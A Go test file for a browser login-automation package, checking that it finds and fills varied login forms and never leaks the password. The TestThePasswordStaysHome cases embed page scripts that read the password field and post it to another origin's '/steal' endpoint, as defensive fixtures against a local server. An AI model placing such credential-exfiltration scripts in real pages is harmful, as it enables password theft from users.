package browser_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/why401/why401/browser"
	"github.com/why401/why401/exchange"
	"github.com/why401/why401/probe"
	"github.com/why401/why401/secret"
)

const alicesPassword = "wonder land+1\"&é"

// logIn opens an address and logs in as alice. The name resolves to loopback, so that nothing is trusted because it is
// localhost.
func logIn(t *testing.T, server, path string, l browser.Login, calls ...string) *browser.Recording {
	t.Helper()
	base, err := url.Parse(server)
	if err != nil {
		t.Fatal(err)
	}
	u, err := exchange.ParseURL("http://app.shop.test:" + base.Port() + path)
	if err != nil {
		t.Fatal(err)
	}
	in := &exchange.Intent{Request: exchange.Request{Method: "GET", URL: u}, Login: exchange.Login{User: secret.Public("alice"), Password: secret.New(alicesPassword)},
		Auth: exchange.AuthBasic, Resolve: map[string]string{"app.shop.test:" + base.Port(): "127.0.0.1:" + base.Port()}}
	return visit(t, in, browser.Options{Time: 30 * time.Second, Login: &l}, calls...)
}

// entrance is a small application with a login: /private wants a session, /login gives one for a form.
func entrance(t *testing.T, form string) *site {
	return serve(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		page := func(body string) {
			fmt.Fprintf(w, "<!DOCTYPE html><title>t</title><link rel=icon href=data:,>%s", body)
		}
		c, _ := r.Cookie("sid")
		switch {
		case r.URL.Path == "/login" && r.Method == "POST":
			if r.FormValue("login") != "alice" || r.FormValue("pw") != alicesPassword {
				w.WriteHeader(401)
				page("wrong " + form)
				return
			}
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: "session-of-alice-0123456789", Path: "/", HttpOnly: true})
			http.Redirect(w, r, "/private", http.StatusFound)
		case r.URL.Path == "/login":
			page(form)
		case r.URL.Path == "/private" && c != nil:
			page("<h1 id=hello>Hello   alice</h1>")
		default:
			http.Redirect(w, r, "/login", http.StatusFound)
		}
	})
}

const plainForm = `<form action=/search><input name=q type=search></form>
<form method=post action=/login><label>User name <input name=login></label><label>Password <input name=pw type=password></label>
<button type=button>Show</button><button name=cancel value=1>Cancel</button><button>Log in</button></form>`

// TestFormsAreFound fills in login forms of several makes, each once.
func TestFormsAreFound(t *testing.T) {
	for name, form := range map[string]string{
		"plain": plainForm,
		"autocomplete and a registration beside": `<form method=post action=/register><input name=mail type=email><input name=a type=password><input name=b type=password><button>Sign up</button></form>
			<form method=post action=/login><input name=login autocomplete=username><input name=pw type=password autocomplete=current-password><input type=submit value=Anmelden></form>`,
		"a script sends it": `<div><input id=login placeholder="E-mail"><input id=pw type=password><button id=go>Continue</button></div><script>
			go.onclick = () => fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/x-www-form-urlencoded'}, body: new URLSearchParams({login: document.getElementById('login').value, pw: pw.value})}).then(() => { location = '/private'; });</script>`,
		"no button": `<form method=post action=/login><input name=login><input name=pw type=password></form>`,
		"the name first": `<div id=a><input id=name autocomplete="username webauthn"><button id=next>Next</button></div>
			<form id=b hidden method=post action=/login><input name=login type=hidden><input name=pw type=password><button>Sign in</button></form><script>
			document.getElementById('next').onclick = () => { b.login.value = document.getElementById('name').value; a.hidden = true; b.hidden = false; };</script>`,
		"shadow": `<x-login></x-login><script>customElements.define('x-login', class extends HTMLElement { constructor() { super(); this.attachShadow({mode: 'open'}).innerHTML =
			'<form method=post action=/login><input name=login><input name=pw type=password><button>Sign in</button></form>'; } });</script>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			app := entrance(t, form)
			rec := logIn(t, app.URL, "/private", browser.Login{Want: browser.Expect{Status: 200, Text: "Hello alice", Selector: "#hello"}})
			if !rec.Entry.Passed || rec.Entry.How != "form" {
				t.Errorf("%+v\n%s\n%q", rec.Entry, strings.Join(rec.Notes, "\n"), app.asked())
			}
			n := 0
			for _, line := range app.asked() {
				if strings.HasPrefix(line, "POST /login") {
					n++
				}
			}
			if n != 1 {
				t.Errorf("the form was sent %d times: %q", n, app.asked())
			}
		})
	}
}

// TestThePasswordStaysHome: it is typed at its own origin alone, sent in a body, there, and once; whatever the page tries.
func TestThePasswordStaysHome(t *testing.T) {
	other := serve(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "x") })
	field := `<input name=login><input name=pw type=password><button>Log in</button>`
	steal := func(send string) string {
		return `<form method=post action=/login>` + field + `</form><script>document.forms[0].onsubmit = (e) => { const p = document.querySelector('[type=password]').value; ` + send + ` };</script>`
	}
	for name, c := range map[string]struct{ form, says, note string }{
		"form sends elsewhere":    {`<form method=post action="` + other.URL + `/steal">` + field + `</form>`, "the login form sends to", ""},
		"in the address":          {`<form method=get action=/login>` + field + `</form>`, "into an address", ""},
		"another form by script":  {steal(`e.preventDefault(); fetch('` + other.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p});`), "would send your password to", ""},
		"twice":                   {steal(`fetch('/login', {method: 'POST', body: new URLSearchParams({login: 'alice', pw: p})}); `), "", "gone out again"},
		"registration":            {`<form method=post action=/login><input name=login><input name=pw type=password autocomplete=new-password><button>Go</button></form>`, "sets a new password", ""},
		"nothing before a button": {`<script>fetch('/login', {method: 'POST', body: 'login=alice'})</script><p>nothing here`, "no login form", "may change something"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			app := entrance(t, c.form)
			rec := logIn(t, app.URL, "/private", browser.Login{}, other.URL) // the other origin may be called
			if !strings.Contains(rec.Entry.Withheld, c.says) {
				t.Errorf("says %q, expected %q", rec.Entry.Withheld, c.says)
			}
			if notes := strings.Join(rec.Notes, "\n"); !strings.Contains(notes, c.note) {
				t.Errorf("the notes do not say %q:\n%s", c.note, notes)
			}
			posts := 0
			for _, line := range app.asked() {
				if strings.HasPrefix(line, "POST ") {
					posts++
				}
			}
			if want := map[bool]int{true: 1}[name == "twice"]; posts != want {
				t.Errorf("%d POSTs went out, expected %d: %q", posts, want, app.asked())
			}
		})
	}
	t.Cleanup(func() {
		for _, line := range other.asked() {
			if strings.HasPrefix(line, "POST ") {
				t.Errorf("the other origin got %s", line)
			}
		}
	})
}

// TestARedirectCarriesNoPassword: a 307 keeps the POST; to another origin it is not followed.
func TestARedirectCarriesNoPassword(t *testing.T) {
	other := serve(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "x") })
	app := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Method == "POST" {
			http.Redirect(w, r, other.URL+"/login", http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>t</title><link rel=icon href=data:,>"+plainForm)
	})
	rec := logIn(t, app.URL, "/login", browser.Login{}, other.URL)
	if rec.Entry.Passed || rec.Entry.Sent == nil || rec.Entry.Sent.Status() != 307 {
		t.Errorf("%+v", rec.Entry)
	}
	if got := other.asked(); len(got) > 0 {
		t.Errorf("the other origin was asked: %q", got)
	}
}

// TestOneTryOfALogin: a login that was refused is not sent again by the next run.
func TestOneTryOfALogin(t *testing.T) {
	app := serve(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>t</title><link rel=icon href=data:,>wrong"+plainForm)
	})
	u, err := exchange.ParseURL(app.URL + "/login")
	if err != nil {
		t.Fatal(err)
	}
	in := &exchange.Intent{Request: exchange.Request{Method: "GET", URL: u}, Login: exchange.Login{User: secret.Public("alice"), Password: secret.New("some-password")}, Auth: exchange.AuthBasic}
	state := t.TempDir() + "/state"
	for run := range 2 {
		s, err := probe.New(in, probe.Options{StateDir: state})
		if err != nil {
			t.Fatal(err)
		}
		rec, err := browser.Open(context.Background(), in, browser.Options{Permit: s.Permit, Lend: s.Lend, NoSandbox: os.Geteuid() == 0, Login: &browser.Login{}})
		if err != nil {
			t.Fatal(err)
		}
		if rec.Entry.Barred != (run == 1) {
			t.Errorf("run %d: %+v", run+1, rec.Entry)
		}
	}
	n := 0
	for _, line := range app.asked() {
		if strings.HasPrefix(line, "POST ") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("the login was sent %d times", n)
	}
}
